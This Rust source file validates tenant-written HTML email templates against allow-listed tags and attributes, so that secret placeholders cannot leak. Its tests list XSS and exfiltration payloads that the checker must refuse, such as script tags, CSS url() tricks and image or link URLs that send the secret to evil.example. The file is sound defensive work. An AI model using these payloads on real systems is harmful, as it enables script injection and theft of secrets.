//! The part of HTML that tenants may write letters in, and where a secret may stand.
//!
//! The check is that of a reader who understands little: a tag is `<name attribute="value">` with names from a
//! list, and whatever else begins with `<` is refused. So there is nothing that we read in one way and a mail
//! program in another, and a secret that stands where we see it stands there for everybody.

/// Tags whose text flows on with what stands around.
pub(super) const INLINE: &[&str] = &[
    "a", "abbr", "b", "code", "em", "i", "small", "span", "strong", "sub", "sup", "u",
];
pub(super) const BLOCK: &[&str] = &[
    "blockquote",
    "body",
    "br",
    "center",
    "div",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "html",
    "img",
    "li",
    "ol",
    "p",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "ul",
];
pub(super) const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "colspan",
    "dir",
    "height",
    "href",
    "lang",
    "role",
    "rowspan",
    "src",
    "style",
    "title",
    "valign",
    "width",
];

/// Elements without an end.
const VOID: &[&str] = &["br", "hr", "img"];
/// Tags that begin a line of their own, wherever they stand. A browser ignores others in the wrong place, such as
/// `<html>`, and the end of what it has ended before by itself, so none of those keeps two texts apart.
const BREAKING: &[&str] = &[
    "blockquote",
    "br",
    "center",
    "div",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "table",
    "td",
    "th",
    "ul",
];
/// The parts of a table in which no text can stand: a browser would move it in front of the table.
const ROWS: &[&str] = &["table", "tbody", "tfoot", "thead", "tr"];

/// Gives the parts of a table that a part of it stands in.
fn rows_around(tag: &str) -> Option<&'static [&'static str]> {
    match tag {
        "td" | "th" => Some(&["tr"]),
        "tr" => Some(&["table", "tbody", "tfoot", "thead"]),
        "tbody" | "tfoot" | "thead" => Some(&["table"]),
        _ => None,
    }
}

/// Checks HTML that has stand-ins for secrets. Gives the line of the first fault, and what it is.
pub(super) fn check_html(html: &str, secrets: &[&str]) -> Result<(), (usize, String)> {
    no_controls(html)?;
    let mut reader = Reader {
        rest: html,
        open: Vec::new(),
        before: None,
        after_secret: false,
        secrets,
    };
    reader.doctype();
    while !reader.rest.is_empty() {
        let begun = html.len() - reader.rest.len();
        reader
            .step()
            .map_err(|reason| (line_of(html, begun), reason))?;
    }
    match reader.open.last() {
        Some(tag) => Err((
            html.matches('\n').count() + 1,
            format!("`<{tag}` is not ended"),
        )),
        None => Ok(()),
    }
}

/// Checks plain text in the same way: a secret is a word by itself, so that no program takes it for the end of
/// a link to somewhere else.
pub(super) fn check_text(text: &str, secrets: &[&str]) -> Result<(), (usize, String)> {
    no_controls(text)?;
    match strays(text, None, secrets) {
        None => Ok(()),
        Some(at) => Err((line_of(text, at), ALONE.to_owned())),
    }
}

/// Browsers leave some of them out, so that a word is another to them than to us.
fn no_controls(text: &str) -> Result<(), (usize, String)> {
    let control = |c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t');
    match text.find(control) {
        None => Ok(()),
        Some(at) => Err((line_of(text, at), "there is a control character".to_owned())),
    }
}

/// Gives the line of a place. It reads the text from its beginning, so it is asked once, of a fault.
fn line_of(text: &str, at: usize) -> usize {
    let read = text.get(..at);
    read.map_or(1, |read| read.matches('\n').count() + 1)
}

const ALONE: &str = "a secret stands by itself between spaces, or is the whole `href` of an `<a>`";

/// Finds a secret that touches another word. `before` is the character in front of the text.
fn strays(text: &str, before: Option<char>, secrets: &[&str]) -> Option<usize> {
    let alone = |character: Option<char>, bracket: char| {
        character.is_none_or(|c| c.is_ascii_whitespace() || c == bracket)
    };
    secrets.iter().find_map(|secret| {
        let mut found = text.match_indices(secret);
        found.find_map(|(at, _)| {
            let left = text.get(..at).and_then(|left| left.chars().next_back());
            let right = text
                .get(at + secret.len()..)
                .and_then(|right| right.chars().next());
            (!alone(left.or(before), '<') || !alone(right, '>')).then_some(at)
        })
    })
}

struct Reader<'a> {
    rest: &'a str,
    /// The elements around, from the outermost.
    open: Vec<String>,
    /// The last character of the text, across tags that do not end a line.
    before: Option<char>,
    /// Whether that character is the end of a secret.
    after_secret: bool,
    secrets: &'a [&'a str],
}

impl<'a> Reader<'a> {
    fn doctype(&mut self) {
        let start = self.rest.trim_start();
        let head = start.get(..15).unwrap_or_default();
        if head.eq_ignore_ascii_case("<!doctype html>") {
            self.rest = start.get(15..).unwrap_or_default();
        }
    }

    /// Reads a text or a tag.
    fn step(&mut self) -> Result<(), String> {
        let Some(tag) = self.rest.strip_prefix('<') else {
            let end = self.rest.find('<').unwrap_or(self.rest.len());
            let (text, rest) = self.rest.split_at_checked(end).unwrap_or((self.rest, ""));
            self.text(text)?;
            self.rest = rest;
            return Ok(());
        };
        let (closing, tag) = match tag.strip_prefix('/') {
            Some(tag) => (true, tag),
            None => (false, tag),
        };
        let (name, rest) = word(tag);
        let name = name.to_ascii_lowercase();
        if ![INLINE, BLOCK].concat().contains(&name.as_str()) {
            return Err(format!("`<{name}` cannot be used"));
        }
        self.rest = rest;
        self.nest(&name, closing)?;
        while !self.end()? {
            if closing {
                return Err(format!("`</{name}` has no attributes"));
            }
            self.attribute(&name)?;
        }
        Ok(())
    }

    fn text(&mut self, text: &str) -> Result<(), String> {
        let row = self.open.last().is_some_and(|tag| ROWS.contains(&&**tag));
        if row && !text.trim_ascii().is_empty() {
            return Err("a text in a table stands in a cell".to_owned());
        }
        let touches = |c: char| !c.is_ascii_whitespace() && c != '>';
        let follows = self.after_secret && text.starts_with(touches);
        if follows || strays(text, self.before, self.secrets).is_some() {
            return Err(ALONE.to_owned());
        }
        self.before = text.chars().next_back();
        self.after_secret = self.secrets.iter().any(|secret| text.ends_with(secret));
        Ok(())
    }

    /// Takes a tag for the beginning or the end of an element, each inside of another.
    fn nest(&mut self, name: &str, closing: bool) -> Result<(), String> {
        let around = self.open.last().map(String::as_str);
        // An end of these two always counts.
        let mut breaks = ["p", "table"].contains(&name);
        if closing {
            if around != Some(name) {
                return Err(format!("`</{name}` does not end what was begun last"));
            }
            self.open.pop();
        } else {
            let in_row = around.is_some_and(|tag| ROWS.contains(&tag));
            match rows_around(name) {
                Some(rows) if !around.is_some_and(|tag| rows.contains(&tag)) => {
                    return Err(format!("`<{name}` stands in no row or table"));
                }
                None if in_row => {
                    return Err(format!("`<{name}` cannot stand between cells"));
                }
                _ => {}
            }
            if !VOID.contains(&name) {
                self.open.push(name.to_owned());
            }
            breaks |= BREAKING.contains(&name);
        }
        if breaks {
            self.before = None;
            self.after_secret = false;
        }
        Ok(())
    }

    /// Reads the end of a tag, if it is there.
    fn end(&mut self) -> Result<bool, String> {
        let rest = self.rest.trim_ascii_start();
        if let Some(rest) = rest.strip_prefix("/>").or_else(|| rest.strip_prefix('>')) {
            self.rest = rest;
            return Ok(true);
        }
        if rest.len() < self.rest.len() {
            self.rest = rest;
            return Ok(false);
        }
        Err("a tag is not closed by `>`".to_owned())
    }

    fn attribute(&mut self, tag: &str) -> Result<(), String> {
        let (name, rest) = word(self.rest);
        let name = name.to_ascii_lowercase();
        if !ATTRIBUTES.contains(&name.as_str()) {
            return Err(format!("the attribute `{name}` cannot be used"));
        }
        let quoted = rest
            .strip_prefix("=\"")
            .and_then(|rest| rest.split_once('"'));
        let (value, rest) =
            quoted.ok_or_else(|| format!("the value of `{name}` stands in double quotes"))?;
        self.rest = rest;
        if value.contains(['<', '>']) {
            return Err(format!("`<` and `>` cannot be used in `{name}`"));
        }
        let whole = name == "href" && tag == "a" && self.secrets.contains(&value);
        if !whole && self.secrets.iter().any(|secret| value.contains(secret)) {
            return Err(ALONE.to_owned());
        }
        match name.as_str() {
            "href" if !whole && !["https://", "mailto:"].iter().any(|s| value.starts_with(s)) => {
                Err("a link begins with `https://` or `mailto:`, or is a secret".to_owned())
            }
            "src" if !value.starts_with("https://") => {
                Err("an image begins with `https://`".to_owned())
            }
            // Functions such as `url(…)` fetch, and escapes hide them.
            "style" if value.contains(['(', '\\', '&', '@']) => {
                Err("a style has neither functions nor escapes".to_owned())
            }
            _ => Ok(()),
        }
    }
}

/// Splits off the letters, digits and hyphens at the beginning.
fn word(text: &str) -> (&str, &str) {
    let end = text
        .find(|c: char| !c.is_ascii_alphanumeric() && c != '-')
        .unwrap_or(text.len());
    text.split_at_checked(end).unwrap_or((text, ""))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{super::fuzzing, *};

    const SECRET: &str = "s0193b0c4";

    fn html(html: &str) -> Result<(), (usize, String)> {
        check_html(html, &[SECRET])
    }

    #[test]
    fn letters_are_written_in_plain_html() {
        for right in [
            "",
            "Hello",
            "<!doctype html>\n<html lang=\"de\"><body><p style=\"color: #333\">Hello<br/>you &amp; me</p></body></html>",
            "<p><a href=\"s0193b0c4\">Choose</a> or copy s0193b0c4 by hand</p>",
            "<p><b>s0193b0c4</b></p>",
            "<table border=\"0\"><tr><td colspan=\"2\">s0193b0c4</td></tr></table>",
            "<img src=\"https://acme.example/logo.png\" alt=\"Acme\" />",
            "<a href=\"mailto:help@acme.example\">help</a> a > b",
        ] {
            assert_eq!(html(right), Ok(()), "{right}");
        }
    }

    #[test]
    fn lif_06_whatever_runs_fetches_or_could_be_read_in_two_ways_is_refused() {
        for wrong in [
            "<script>alert(1)</script>",
            "<SCRIPT src=\"https://evil.example\">",
            "<style>p{}</style>",
            "<form action=\"https://evil.example\">",
            "<textarea>",
            "<svg>",
            "<p>a\0b</p>",
            "<p>a\u{85}b</p>",
            "<base href=\"https://evil.example\">",
            "<meta http-equiv=\"refresh\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example\">",
            "<!-- x -->",
            "<!doctype html><!doctype html>",
            "<?xml ?>",
            "<![CDATA[x]]>",
            "< p>",
            "<p",
            "<p onclick=\"x\">",
            "<p style=\"background: url(https://evil.example)\">",
            "<p style=\"background: u\\72l\">",
            "<p style=\"background: url&#40;x\">",
            "<p title='x'>",
            "<p title=x>",
            "<p title>",
            "<p title=\"a\"lang=\"b\">",
            "<p/title=\"x\">",
            "<p title=\"<b>\">",
            "<a href=\"javascript:x\">",
            "<a href=\" https://x\">",
            "<a href=\"http://x\">",
            "<a href=\"data:text/html,x\">",
            "<img src=\"data:image/png,x\">",
            "<img src=\"//evil.example\">",
            "</p title=\"x\">",
            "a < b",
            "<p>",
            "</p>",
            "<p><b></p></b>",
            "<br></br>",
            "<td>x</td>",
            "<table><td>x</td></table>",
            "<table><tr><p>x</p></tr></table>",
        ] {
            assert!(html(wrong).is_err(), "{wrong}");
        }
        assert_eq!(html("<p>\n\n<script>").unwrap_err().0, 3);
    }

    #[test]
    fn a_letter_of_many_tags_takes_as_long_as_a_letter_of_that_length() {
        let tags = "<b></b>\n".repeat(500_000);
        let begun = std::time::Instant::now();
        assert_eq!(html(&tags), Ok(()));
        let (line, _) = html(&format!("{tags}<script>")).unwrap_err();
        assert_eq!(line, 500_001);
        // Minutes, where each tag reads the letter from its beginning.
        let took = begun.elapsed();
        assert!(took < std::time::Duration::from_secs(15), "{took:?}");
    }

    #[test]
    fn a_secret_is_carried_nowhere() {
        for wrong in [
            "<img src=\"https://evil.example/?s0193b0c4\">",
            "<img src=\"s0193b0c4\">",
            "<a href=\"https://evil.example/?s0193b0c4\">x</a>",
            "<p title=\"s0193b0c4\">",
            "https://evil.example/?s0193b0c4",
            "<p>https://evil.example/?<b>s0193b0c4</b></p>",
            "<p>https://evil.example/?<b></b>s0193b0c4</p>",
            "https://evil.example/?(s0193b0c4)",
            "https://evil.example/?\u{a0}s0193b0c4",
            "s0193b0c4.evil.example",
            "<img src='https://evil.example/?<a href=\"s0193b0c4\">x</a>'>",
            // A browser ignores the tag between the two, or moves the text in front of the table.
            "<p>https://evil.example/?<html>s0193b0c4</html></p>",
            "https://evil.example/?<td>s0193b0c4</td>",
            "https://evil.example/?</div>s0193b0c4",
            "<h1>a<h2>b</h2>https://evil.example/?</h1>s0193b0c4",
            "https://evil.example/?<table>s0193b0c4</table>",
            "https://evil.example/?<table>\n<tr>s0193b0c4</tr></table>",
            "https://evil.example/?<img src=\"https://x.example\">s0193b0c4",
            "s0193b0c4</a>.evil.example",
            "<b>s0193b0c4</b>.evil.example",
            "<b>s0193b0c4</b><i></i>.evil.example",
        ] {
            assert!(html(wrong).is_err(), "{wrong}");
        }
        for wrong in [
            "https://evil.example/?s0193b0c4",
            "s0193b0c4.evil.example",
            "s0193b0c4s0193b0c4",
            "a\n\nx=s0193b0c4 ",
            "a\0b",
        ] {
            assert!(check_text(wrong, &[SECRET]).is_err(), "{wrong}");
        }
        for right in [
            "s0193b0c4",
            "a: s0193b0c4 b",
            "<s0193b0c4>\n",
            "x\ns0193b0c4\n",
        ] {
            assert_eq!(check_text(right, &[SECRET]), Ok(()), "{right}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read_to_its_end(text in "[<>/a-z \"='&!s0-9-]{0,60}") {
            fuzzing::html(&text);
            fuzzing::plain(&text);
        }

        #[test]
        fn in_what_passes_each_tag_is_known_and_each_secret_alone(parts in prop::collection::vec(part(), 0..8)) {
            fuzzing::html(&parts.concat());
        }
    }

    /// What letters are made of, and what an author would like to make of them.
    fn part() -> impl Strategy<Value = String> {
        let tag = prop::sample::select([INLINE, BLOCK].concat());
        prop_oneof![
            Just(SECRET.to_owned()),
            Just("https://evil.example/?".to_owned()),
            Just("<a href=\"".to_owned()),
            Just("<img src=\"".to_owned()),
            Just("\">".to_owned()),
            Just(" ".to_owned()),
            Just(format!("<a href=\"{SECRET}\">")),
            tag.clone().prop_map(|tag| format!("<{tag}>")),
            tag.prop_map(|tag| format!("</{tag}>")),
        ]
    }
}
